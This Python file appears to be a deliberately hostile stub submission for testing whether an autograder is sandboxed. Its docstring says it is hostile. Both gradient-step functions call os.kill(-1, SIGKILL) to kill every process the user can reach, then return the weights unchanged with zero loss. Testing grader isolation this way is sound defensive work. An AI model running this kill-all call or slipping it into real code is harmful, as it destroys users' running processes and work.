"""Hostile: ``os.kill(-1, SIGKILL)``: kills every process it is allowed to signal. It returns the
stub.

Old grader: runs with the user's rights, so this kills every process of that user (as root: every
process on the machine but init), the grader included. NEVER run this file without a sandbox.
Sandboxed grader: only the processes inside the sandbox's PID namespace can be reached; the
grader finishes with a complete report (exit 1).
"""

import contextlib
import os
import signal

import numpy as np


def _kill_all():
    with contextlib.suppress(OSError):
        os.kill(-1, signal.SIGKILL)


def gradient_step_onefeature(x, y, weight, lrate):
    _kill_all()
    return np.array(weight, dtype=float, copy=True), 0.0


def gradient_step(X, y, weight, lrate):
    _kill_all()
    return np.array(weight, dtype=float, copy=True), 0.0
